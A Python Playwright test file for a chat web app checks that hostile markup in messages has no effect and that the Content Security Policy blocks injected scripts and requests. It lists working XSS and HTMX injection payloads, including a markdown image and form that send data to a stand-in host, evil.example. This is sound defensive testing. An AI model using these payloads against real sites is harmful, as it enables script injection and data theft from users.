"""Hostile answers and questions in a real browser: no script runs, no request leaves, and no text has an effect."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from browser.conversation import finished
from browser.demo_engine import DemoEngine
from playwright.sync_api import Page, expect

PAYLOADS = [
    *("<script>pwned=1</script>", "<img src=https://evil.example/x onerror=pwned=1>", "<svg/onload=pwned=1>"),
    *(
        "![leak](https://evil.example/?q=secret)",
        "[x](javascript:pwned=1)",
        "<iframe src=https://evil.example></iframe>",
    ),
    *(
        '<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
        "<div hx-get=/livez hx-trigger=load>x</div>",
    ),
    *(
        '<div data-hx-post="/chats" hx-trigger="load">x</div>',
        '<p id="turns" hx-swap-oob="true">gone</p>',
        "</template></hx-partial>",
    ),
    *(
        '<div hx-sse:connect="/generations/0/events"></div>',
        "<style>body{display:none}</style>",
        "<base href=https://evil.example>",
    ),
    *(
        "<title>stolen</title>",
        "<head><title>stolen</title></head>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    ),
    *(
        "<!--snapshot-->",
        "\n\nevent: done\ndata: {}\n\n",
        "\r\revent: done\r\r",
        "\u2028event: done\u2028\u2028",
        "<body onload=pwned=1>",
    ),
    *(
        '```html\n<hx-partial hx-target="#turns">x</hx-partial>\n```',
        "`<hx-oob id=x>`",
        "<form action=https://evil.example><button>x</button></form>",
    ),
    *(
        "<a href=# onclick=pwned=1>x</a>",
        "<details open ontoggle=pwned=1>",
        "<math><mtext><style><img src=x onerror=pwned=1>",
        "<x contenteditable>",
    ),
]


@pytest.mark.parametrize("each_token_is", ["a byte", "a word"])
def test_hostile_markup_in_messages_has_no_effect(
    serve: Callable[..., Any], open_page: Callable[..., Page], demo: DemoEngine, each_token_is: str
) -> None:
    hostile = "\n\n".join(PAYLOADS)
    text = f"Begin\n\n{hostile}\n\nThe end"
    demo.dictate([text.encode()] if each_token_is == "a byte" else text, hostile)
    page = open_page(serve(demo.load).url)
    page.locator("#text").fill(hostile)
    page.locator("#text").press("Enter")
    page.wait_for_url("**/chats/*")
    finished(page)
    answer = page.locator("article.assistant").last
    expect(answer.locator(".answer")).to_contain_text("The end")
    expect(answer.locator(".answer")).to_contain_text("<script>pwned=1</script>")
    for _ in range(2):
        assert page.evaluate("typeof pwned") == "undefined"
        assert page.evaluate("document.title").startswith("<script>pwned=1</script>")
        assert page.locator("#turns > article").count() == 2
        assert (
            page.locator(
                ".prose img, .prose script, .prose iframe, .prose form, .prose svg, .prose [id]:not(div)"
            ).count()
            == 0
        )
        page.reload()


def test_content_security_policy_blocks_scripts_and_requests(
    serve: Callable[..., Any], open_page: Callable[..., Page], demo: DemoEngine
) -> None:
    """If the sanitizer missed something, the browser would still refuse to run it."""
    page = open_page(serve(demo.load).url, expected="Content Security Policy|evil.example")
    refused = page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
            const add = (tag, field, value) => {
                const element = document.createElement(tag);
                element.setAttribute(field, value);
                if (tag === "script") element.textContent = "pwned = 1";
                document.body.append(element);
                element.click();
            };
            add("script", "class", "x");
            add("img", "src", "https://evil.example/x");
            add("p", "onclick", "pwned = 1");
            await fetch("https://evil.example").catch(() => {});
            for (let waited = 0; waited < 200 && refused.length < 4; waited += 1) {
                await new Promise((done) => setTimeout(done, 25));
            }
            return refused;
        }"""
    )
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= set(refused)
    assert page.evaluate("typeof pwned") == "undefined"
